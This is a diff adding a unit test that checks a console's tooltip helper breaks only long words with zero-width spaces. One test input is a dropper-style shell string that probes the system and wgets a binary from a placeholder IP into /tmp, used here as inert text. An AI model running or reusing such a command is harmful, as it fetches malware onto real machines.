@@ -50,5 +50,14 @@ TEST(VisibleTextTest, EscapesMarkupInToolTips) {
     EXPECT_EQ(toolTip(u"<img src=x>&"_s), u"<qt>&lt;img src=x&gt;&amp;</qt>"_s);
 }
 
+TEST(VisibleTextTest, ATipBreaksALongWordAndNothingElse) {
+    EXPECT_EQ(toolTip(u"uname -a; cat /proc/mounts; wget http://203.0.113.7/bins/x86 -O /tmp/x"_s).count(QChar(0x200b)),
+              0);
+    const QString tip = toolTip(QString(150, u'A'), 150);
+    EXPECT_EQ(tip.count(u'A'), 150);
+    EXPECT_EQ(tip.count(QChar(0x200b)), 2);
+    EXPECT_LE(tip.indexOf(QChar(0x200b)), 70);
+}
+
 }  // namespace
 }  // namespace apiary::console
